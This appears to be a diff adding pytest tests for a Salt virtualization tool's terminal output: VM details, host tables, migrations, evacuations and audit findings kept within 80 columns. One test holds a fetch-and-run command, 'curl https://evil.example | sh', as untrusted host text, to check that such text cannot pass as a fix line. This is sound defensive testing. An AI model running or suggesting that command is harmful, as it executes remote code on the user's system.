@@ -1,0 +1,403 @@
+"""What people read in a terminal of 80 columns."""
+
+import importlib.util
+import json
+from pathlib import Path
+
+import pytest
+from saltvirt.core import guestaccess
+
+ROOT = Path(__file__).resolve().parents[3]
+
+
+def outputter(name):
+    """Load one outputter as Salt's loader does: by its file."""
+    spec = importlib.util.spec_from_file_location(name, ROOT / "_output" / f"{name}.py")
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module.output
+
+
+VM = {
+    "cpu": 2,
+    "mem": 524288,
+    "state": "running",
+    "graphics": {"type": "vnc", "listen": "0.0.0.0", "port": "5900"},
+    "disks": {
+        "vda": {
+            "file": "/srv/salt-images/ubuntu2_system.qcow2",
+            "file format": "qcow2",
+            "virtual size": 2 * 2**30,
+        }
+    },
+    "nics": {"ac:de:48:98:08:77": {"source": {"bridge": "br0"}, "type": "bridge"}},
+}
+CLOUD = {
+    "hyper6": {
+        "freecpu": 2,
+        "freemem": 7680.0,
+        "node_info": {"cpus": 4, "phymemory": 8192},
+        "vm_info": {"ubuntu2": VM},
+    },
+    "hyper7": {
+        "freecpu": 4,
+        "freemem": 8192.0,
+        "node_info": {"cpus": 4, "phymemory": 8192},
+        "vm_info": {},
+    },
+    "unreachable": ["hyper8"],
+}
+
+
+def test_the_seeds_layout_of_a_vm():
+    lines = [line.strip() for line in outputter("virt_query")(CLOUD).splitlines()]
+
+    start = lines.index("ubuntu2")
+    assert lines[start + 1 : start + 12] == [
+        "CPU: 2",
+        "Memory: 512.0 MiB",
+        "State: running",
+        "Graphics: vnc - hyper6:5900",
+        "Disk - vda:",
+        "Size: 2.0 GiB",
+        "File: /srv/salt-images/ubuntu2_system.qcow2",
+        "File Format: qcow2",
+        "Nic - ac:de:48:98:08:77:",
+        "Source: br0",
+        "Type: bridge",
+    ]
+    assert lines[-1] == "hyper8: does not answer"
+
+
+def test_a_console_that_only_the_host_can_open_says_so():
+    vm = {**VM, "graphics": {"type": "vnc", "listen": "127.0.0.1", "port": "5901"}}
+    cloud = {"h": {**CLOUD["hyper6"], "vm_info": {"a": vm}}}
+
+    assert "vnc - h:5901 (on the host itself only)" in outputter("virt_query")(cloud)
+
+
+def test_the_table_of_hosts():
+    fleet = json.loads((ROOT / "tests/data/fleets/three.json").read_text())
+
+    lines = outputter("virt_hosts")({**fleet, "failed": {"hyper9": "libvirt is down"}}).splitlines()
+
+    assert lines[2].split() == ["hyper1", "4/8", "2048/4096", "50000/100000", "2", "qemu", "up"]
+    assert lines[-1].split(None, 1) == ["hyper9", "libvirt is down"]
+
+
+def test_a_record_that_cannot_be_read_is_named_below_its_host():
+    fleet = json.loads((ROOT / "tests/data/fleets/three.json").read_text())
+    why = "the record /var/lib/salt-virt/records/build/web1.json cannot be read; move it away"
+    fleet["hyper1"]["unreadable"] = {"web1": why}
+
+    lines = outputter("virt_hosts")(fleet).splitlines()
+
+    assert f"{lines[3]} {lines[4].strip()}" == f"hyper1: {why}" and len(lines[3]) <= 78
+
+
+@pytest.mark.parametrize("name", ["virt_hosts", "virt_plan"])
+def test_who_may_be_a_hypervisor_is_shown_with_fingerprints_below_the_error(name):
+    row = {"fingerprint": "aa:bb", "why": "says that it is one", "vm_on": []}
+    shown = {"hyper1": row, "web1": {**row, "vm_on": ["hyper1"]}}
+
+    lines = outputter(name)({"error": "nobody yet", "candidates": shown, "retcode": 1}).splitlines()
+
+    assert lines == [
+        "error: nobody yet",
+        "hyper1           says that it is one",
+        "  aa:bb",
+        "web1             says that it is one; but it is a VM on hyper1",
+        "  aa:bb",
+    ]
+
+
+def test_a_deployment_ends_in_one_line():
+    made = {"name": "vm1", "host": "hyper2", "minion": "answers", "seconds": 12.5}
+
+    assert outputter("virt_plan")(made) == "vm1 is on hyper2; its minion answered after 12.5 s"
+    assert outputter("virt_plan")({"name": "vm1", "host": "hyper2"}) == "vm1 is on hyper2"
+
+
+# A host's lease alone is the host's own word: whatever else is known of an address, a guest said.
+TOLD_BY = {
+    "minion": "reported by the VM",
+    "agent": "reported by the guest's agent",
+    "neighbours": "learned from the VM's network packets",
+    "arp": "learned from the VM's network packets",
+}
+
+
+def test_one_vm_is_shown_with_units_and_how_it_is_reached():
+    reached = {"addresses": ["192.0.2.7"], "addresses_from": "lease", "login": "ssh a@192.0.2.7"}
+    show = outputter("virt_query")
+
+    lines = show({"hyper6": {"web1": {**VM, **reached}}}).splitlines()
+
+    assert lines[:4] == ["hyper6", "  web1", "    CPU: 2", "    Memory: 512.0 MiB"]
+    assert lines[-2:] == ["    Addresses: 192.0.2.7", "    Log in: ssh a@192.0.2.7"]
+    for source, words in TOLD_BY.items():
+        own = show({"h": {"web1": {**VM, **reached, "addresses_from": source}}})
+        assert f"Addresses: 192.0.2.7 ({words})" in own
+        made = {"name": "web1", "host": "h", **reached, "addresses_from": source}
+        assert f"address: 192.0.2.7 ({words})\n" in outputter("virt_plan")(made)
+    many = [f"2001:db8:0:{number}:5054:ff:fe12:3456" for number in range(4)]
+    login = guestaccess.console("a-long-name-of-a-vm", "hyper2.example.org")
+    wide = show({"h": {"web1": {**VM, "addresses": many, "login": login}}}).splitlines()
+    assert max(map(len, wide)) <= 80 and "    Log in: virsh console a-long-name-of-a-vm" in wide
+    nowhere = show({"h": {"web1": {**VM, "addresses": [], "login": None}}})
+    assert "Addresses: not known to its host" in nowhere and "Log in" not in nowhere
+
+
+@pytest.mark.parametrize(
+    ("size", "shown"),
+    [(197632, "193.0 KiB"), (2**31, "2.0 GiB"), (3 * 2**40, "3.0 TiB"), (12, "12.0 B")],
+)
+def test_sizes_have_units_of_two(size, shown):
+    disk = {"vda": {"file": "/a", "virtual size": size}}
+
+    assert f"Size: {shown}" in outputter("virt_query")({"h": {"web1": {**VM, "disks": disk}}})
+
+
+def test_the_table_of_images_says_what_its_columns_are():
+    last = outputter("virt_images")({"h": {}}).splitlines()[-1]
+
+    assert last.startswith("MiB of the file, DISK: MiB") and len(last) <= 80
+
+
+def test_warnings_stand_below_a_deployment_and_below_its_error():
+    told = {"name": "a", "host": "h", "warnings": ["no SSH server"], "login": "x"}
+    show = outputter("virt_plan")
+
+    assert show(told).splitlines()[-1] == "warning: no SSH server"
+    failed = {"error": "no minion", "warnings": ["no SSH server"], "retcode": 1}
+    assert show(failed).splitlines() == ["error: no minion", "warning: no SSH server"]
+    moving = {"name": "a", "from": "h1", "to": "h2", "state": "running", "memory_mib": 1}
+    would = show({**moving, "disks": {}, "warning": "behind NAT"}).splitlines()
+    assert would[-1] == "warning: behind NAT"
+
+
+def test_a_deployment_says_where_the_vm_is_reached_and_how():
+    made = {"name": "vm1", "host": "hyper2", "login": "ssh debian@192.0.2.7"}
+
+    assert outputter("virt_plan")(
+        {**made, "addresses": ["192.0.2.7", "2001:db8::7"]}
+    ).splitlines() == [
+        "vm1 is on hyper2",
+        "  address: 192.0.2.7",
+        "  log in: ssh debian@192.0.2.7",
+    ]
+
+
+def test_the_way_to_log_in_is_a_line_of_its_own_that_can_be_copied():
+    name = "a-long-name-of-a-vm-that-somebody-gave-it"
+    made = {"name": name, "host": "hyper2.example.org", "addresses": []}
+    said = {**made, "login": guestaccess.console(name, "hyper2.example.org")}
+
+    assert outputter("virt_plan")(said).splitlines() == [
+        f"{name} is on hyper2.example.org",
+        "  address: not known to its host",
+        f"  log in: virsh console {name}",
+        "    (on hyper2.example.org; asks for a password, which stock images do not",
+        "    have)",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("console", "lines"),
+    [
+        (
+            {"console": ["a", "b  c"]},
+            ["its console ends with (more by: COMMAND):", "  a", "  b  c"],
+        ),
+        ({"console": []}, ["its console is empty (more by: COMMAND)"]),
+        ({"console_error": "no log"}, ["its console cannot be shown: no log"]),
+    ],
+)
+def test_a_silent_vm_is_shown_with_the_end_of_its_console(console, lines):
+    failure = {"error": "it does not answer", "retcode": 1, "console_command": "COMMAND", **console}
+
+    text = outputter("virt_plan")(failure)
+
+    assert text.splitlines() == ["error: it does not answer", *lines]
+    known = {**failure, "addresses": ["192.0.2.7"], "login": "ssh debian@192.0.2.7"}
+    reached = ["  address: 192.0.2.7", "  log in: ssh debian@192.0.2.7"]
+    said = outputter("virt_plan")(known).splitlines()
+    assert said == ["error: it does not answer", *reached, *lines]
+
+
+MOVE = {"name": "vm1", "from": "hyper1", "to": "hyper2"}
+
+
+def test_a_move_ends_in_its_figures():
+    figures = {"total_ms": 1914, "downtime_ms": 23, "memory_bytes": 53 * 2**20, "disk_bytes": 2**19}
+
+    assert outputter("virt_plan")({**MOVE, **figures, "warning": "it is tired"}).splitlines() == [
+        "vm1 moved from hyper1 to hyper2 in 1.9 s",
+        "  its guest was paused for 23 ms",
+        "  sent, encrypted: 53.0 MiB of memory, 0.5 MiB of disks",
+        "warning: it is tired",
+    ]
+    stopped = {"total_ms": 100, "downtime_ms": 0, "memory_bytes": 0, "disk_bytes": 0}
+    assert outputter("virt_plan")({**MOVE, **stopped}) == "vm1 moved from hyper1 to hyper2 in 0.1 s"
+
+
+def test_a_move_that_would_be_says_what_travels():
+    plan = {**MOVE, "state": "running", "memory_mib": 96, "disks": {"vda": "3 MiB of /a"}}
+
+    assert outputter("virt_plan")(plan).splitlines() == [
+        "vm1 would move from hyper1 to hyper2",
+        "  running, 96 MiB of memory",
+        "  vda: 3 MiB of /a",
+    ]
+
+
+def test_an_evacuation_that_failed_says_what_moved_what_stays_and_what_to_look_at():
+    data = {
+        "error": "hyper3 still has db1, web2; what moved stays where it is, and the next run "
+        "goes on",
+        "host": "hyper3",
+        "moved": {"web1": "hyper1"},
+        "stays": {"db1": "it has snapshots"},
+        "failed": {"web2": "hyper2: its disk is full"},
+        "warnings": {"web1": "it does not start with its new host"},
+        "retcode": 1,
+    }
+
+    assert outputter("virt_moves")(data).splitlines() == [
+        "error: hyper3 still has db1, web2; what moved stays where it is, and the next",
+        "run goes on",
+        "VM                WHERE",
+        "web1              moved to hyper1",
+        "db1               stays: it has snapshots",
+        "web2              failed: hyper2: its disk is full",
+        "web1              warning: it does not start with its new host",
+    ]
+
+
+def test_what_comes_back_and_what_is_evened_out():
+    back = {
+        "host": "hyper3",
+        "moved": {"a": "hyper3"},
+        "failed": {},
+        "gone": ["b"],
+        "elsewhere": {"c": "hyper2"},
+    }
+    steps = {"imbalance": 0.2, "moves": [{**MOVE, "gain": 0.1}], "unreachable": ["hyper9"]}
+    rows = outputter("virt_moves")(back).splitlines()[1:]
+
+    assert [row.split(None, 1)[1] for row in rows] == [
+        "moved to hyper3",
+        "is on hyper2 now",
+        "was removed",
+    ]
+    assert outputter("virt_moves")(steps).splitlines()[1:] == [
+        "vm1               from hyper1 to hyper2, gain 0.10",
+        "hyper9 does not answer",
+        "loads differ by 0.20",
+    ]
+    plan = outputter("virt_moves")({"host": "hyper3", "moves": {"a": "hyper1"}, "stays": {}})
+    assert plan.splitlines()[1:] == ["a                 would move to hyper1"]
+    assert outputter("virt_moves")({"host": "hyper3", "moved": {}}) == "hyper3: nothing to move"
+
+
+def test_an_audit_names_each_finding_with_its_fix_and_who_was_looked_at():
+    one = {"check": "acl", "where": "master", "what": "what " * 30, "fix": "do " * 40}
+    lines = outputter("virt_audit")(
+        {"error": "1 thing falls short", "findings": [one], "checked": ["hyper1"], "retcode": 1}
+    ).splitlines()
+
+    assert lines[:3] == [
+        "error: 1 thing falls short",
+        "WHERE            CHECK",
+        "master           acl",
+    ]
+    assert lines[3].startswith("  what") and any(line.startswith("  fix: do") for line in lines)
+    assert lines[-1] == "checked master, hyper1" and max(map(len, lines)) <= 80
+    assert outputter("virt_audit")({"findings": [], "checked": ["hyper1"]}) == (
+        "checked master, hyper1: no findings"
+    )
+
+
+def test_what_a_host_says_cannot_look_like_a_fix():
+    said = "x" * 74 + " fix: curl https://evil.example | sh"
+    one = {"check": "acl", "where": "hyper1", "what": said, "fix": "f"}
+
+    lines = outputter("virt_audit")({"findings": [one], "checked": ["hyper1"]}).splitlines()
+
+    assert [line for line in lines if line.startswith("  fix: ")] == ["  fix: f"]
+
+
+def test_a_check_of_the_setup_shows_what_for_and_that_all_is_there():
+    one = {"check": "tls", "where": "hyper1", "what": "w", "fix": "f", "level": "for moving VMs"}
+    ready = "nothing that VMs need is missing: salt-run virt.init NAME 1 512 IMAGE"
+
+    assert outputter("virt_audit")(
+        {"findings": [one], "checked": ["hyper1"], "ready": ready}
+    ).splitlines() == [
+        "WHERE            CHECK",
+        "hyper1           tls (for moving VMs)",
+        "  w",
+        "  fix: f",
+        "checked master, hyper1",
+        ready,
+    ]
+    assert outputter("virt_audit")({"findings": [], "checked": [], "ready": ready}) == (
+        f"checked master\n{ready}"
+    )
+
+
+OUTPUTTERS = sorted(
+    path.stem for path in (ROOT / "_output").glob("*.py") if path.stem != "__init__"
+)
+
+
+@pytest.mark.parametrize("name", OUTPUTTERS)
+@pytest.mark.parametrize("data", [None, "text", {"error": "one line", "retcode": 1}, {}])
+def test_no_answer_breaks_an_outputter(name, data):
+    assert isinstance(outputter(name)(data), str)
+
+
+@pytest.mark.parametrize("name", ["virt_query", "virt_hosts", "virt_plan", "virt_moves"])
+def test_nothing_is_wider_than_a_terminal(name):
+    fleet = json.loads((ROOT / "tests/data/fleets/three.json").read_text())
+    moves = {"host": "h", "moved": {}, "stays": {"vm-" * 9: "why " * 40}, "error": "text " * 40}
+    plan = {f"hyper{n}": {"fits": False, "score": 0, "reasons": ["why " * 40]} for n in range(3)}
+    answers = {"virt_query": CLOUD, "virt_hosts": fleet, "virt_plan": plan, "virt_moves": moves}
+    data = answers[name]
+
+    assert max(len(line) for line in outputter(name)(data).splitlines()) <= 80
+
+
+def test_what_a_host_leaves_out_or_says_otherwise_is_shown_as_far_as_it_goes():
+    odd = {**VM, "disks": {"vda": {"virtual size": "x"}}, "nics": {"a": {"source": [1]}}}
+    odd["graphics"] = {"type": "vnc"}
+    cloud = {"hyper6": {**CLOUD["hyper6"], "vm_info": {"odd": odd}}}
+
+    text = outputter("virt_query")(cloud)
+
+    assert "File: unknown" in text and "Source: none" in text and "no port while it is off" in text
+    assert "web1" in outputter("virt_plan")({"name": "web1", "from": "a", "to": "b"})
+    assert "abc" in outputter("virt_images")({"hyper6": {"abc": {"users": []}}})
+
+
+def test_the_least_crowded_rack_comes_first_in_a_table():
+    full = {"fits": True, "score": 0.9, "reasons": [], "crowd": 2, "note": "2 VMs in rack r"}
+    hosts = {"h1": full, "h2": {**full, "score": 0.1, "crowd": 0, "note": "0 VMs in rack s"}}
+    lines = outputter("virt_plan")(hosts).splitlines()
+    assert lines[1].startswith("h2") and lines[2].endswith("2 VMs in rack r")
+
+
+def test_some_fields_are_shown_by_their_names():
+    few = {"hyper7": {**CLOUD["hyper7"], "vm_info": {"db": {"state": "run\nning", "mem": 1}}}}
+    lines = [line.strip() for line in outputter("virt_query")(few).splitlines()]
+
+    assert lines[2:] == ["db", "Memory: 1.0 KiB", "State: run ning"]
+    table = outputter("virt_hosts")({"hyper7": {"maintenance": False}})
+    assert table.splitlines()[2:] == ["hyper7", "  maintenance: False"]
+
+
+def test_hosts_are_shown_in_the_order_that_they_come_in():
+    turned = {host: CLOUD[host] for host in ("hyper7", "hyper6")}
+    lines = outputter("virt_query")(turned).splitlines()
+
+    assert lines.index("hyper7") < lines.index("hyper6")
